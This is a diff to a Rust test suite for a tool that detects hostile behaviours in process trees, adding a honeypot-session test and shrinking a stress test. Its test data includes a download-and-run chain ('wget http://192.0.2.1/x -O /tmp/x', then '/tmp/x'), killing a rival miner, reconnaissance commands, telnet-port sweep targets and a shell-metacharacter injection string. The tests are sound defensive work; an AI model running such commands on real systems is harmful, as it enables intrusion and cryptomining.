@@ -8,7 +8,7 @@ use serde::Deserialize;
 
 use super::*;
 
-#[derive(Deserialize)]
+#[derive(Default, Deserialize)]
 struct Line {
     parent: Option<usize>,
     file_path: Option<String>,
@@ -94,9 +94,7 @@ fn every_fixture_fires_or_stays_quiet_as_it_says() {
     let behaviours = Behaviours::built_in();
     let mut wrong = Vec::new();
     for (id, case, path) in fixtures() {
-        if behaviours.by_name(&id).is_none() {
-            continue;
-        }
+        assert!(behaviours.by_name(&id).is_some(), "fixtures/label/{id} is of no behaviour");
         let seen = seen(&behaviours, &lines(&path));
         if seen.contains(&id) == case.starts_with("quiet_") {
             wrong.push(format!("{id}/{case}: saw {seen:?}"));
@@ -231,14 +229,25 @@ fn hostile_trees_are_bounded() {
     let behaviours = Behaviours::built_in();
     let start = std::time::Instant::now();
     let mut nodes = vec![Node { cmd_line: Some("bash"), ..Node::default() }];
-    let kinds = ["wget http://192.0.2.1/x -O /tmp/x", "/tmp/x", "pkill xmrig", "uname -a", "nproc", "free", "id", "w", "rm /tmp/x"];
-    nodes.extend((0..200_000).map(|index| Node {
+    let kinds = [
+        "wget http://192.0.2.1/x -O /tmp/x",
+        "/tmp/x",
+        "pkill xmrig",
+        "uname -a",
+        "nproc",
+        "free",
+        "id",
+        "w",
+        "rm /tmp/x",
+    ];
+    nodes.extend((0..40_000).map(|index| Node {
         // A parent that comes later, or is none at all, is a damaged log and must not matter.
         parent: [Some(0), Some(index + 5), Some(usize::MAX), None][index % 4],
         cmd_line: Some(kinds[index % kinds.len()]),
         ..Node::default()
     }));
-    let connects: Vec<String> = (0..100_000).map(|n| format!("10.{}.{}.{}:23", n >> 16, n >> 8 & 255, n & 255)).collect();
+    let connects: Vec<String> =
+        (0..100_000).map(|n| format!("10.{}.{}.{}:23", n >> 16, n >> 8 & 255, n & 255)).collect();
     nodes[7].connects = connects.iter().map(String::as_str).collect();
     let long = "é;`$(\"'|".repeat(100_000);
     nodes[9].cmd_line = Some(&long);
@@ -247,11 +256,13 @@ fn hostile_trees_are_bounded() {
     for id in ["downloads_then_runs", "kills_rivals", "sweeps_hosts", "deletes_itself", "system_reconnaissance"] {
         let of: Vec<_> = found.iter().filter(|it| behaviours.get(it.behaviour).unwrap().id == id).collect();
         assert!((1..=MAX_FOUND).contains(&of.len()), "{id}: {}", of.len());
-        assert!(of.iter().all(|it| it.nodes.len() <= MAX_EVIDENCE && it.nodes.iter().all(|node| *node < tree.nodes.len())));
+        assert!(
+            of.iter().all(|it| it.nodes.len() <= MAX_EVIDENCE && it.nodes.iter().all(|node| *node < tree.nodes.len()))
+        );
     }
     let view = ProcessView { cmd_line: Some(&long), ..ProcessView::default() };
     assert!(behaviours.of_process(&view).len() < behaviours.all().len());
-    println!("200,000 nodes in {:?}", start.elapsed());
+    println!("40,000 nodes in {:?}", start.elapsed());
 }
 
 proptest::proptest! {
@@ -268,5 +279,29 @@ proptest::proptest! {
         }
         let node = Node { file_path: image.as_deref(), cmd_line: Some(&line), ..Node::default() };
         BEHAVIOURS.of_tree(&Tree { nodes: vec![node.clone(), Node { parent: Some(0), ..node }] });
+    }
+}
+
+/// Sessions of a real honeypot, each command a node.
+#[test]
+fn real_sessions_show_what_they_are_known_for() {
+    let samples = std::env::var_os("RINGLEADER_SAMPLES").map_or_else(|| root().join("../shared/data"), PathBuf::from);
+    let Ok(text) = std::fs::read_to_string(samples.join("cowrie/compx520_commands_mapped.txt")) else {
+        println!("skipped: no samples");
+        return;
+    };
+    let behaviours = Behaviours::built_in();
+    let mut counts: BTreeMap<String, usize> = BTreeMap::new();
+    for session in text.split("Session ID:").skip(1) {
+        let commands = session.lines().skip(1).filter_map(|line| line.split('\t').next()).filter(|it| !it.is_empty());
+        let line = |command: &str| Line { cmd_line: Some(command.to_owned()), ..Line::default() };
+        let lines: Vec<Line> = commands.map(line).collect();
+        for id in seen(&behaviours, &lines) {
+            *counts.entry(id).or_default() += 1;
+        }
+    }
+    println!("{counts:?}");
+    for id in ["changes_password", "decodes_and_runs", "replaces_ssh_keys", "system_reconnaissance"] {
+        assert!(counts.contains_key(id), "{id}: {counts:?}");
     }
 }
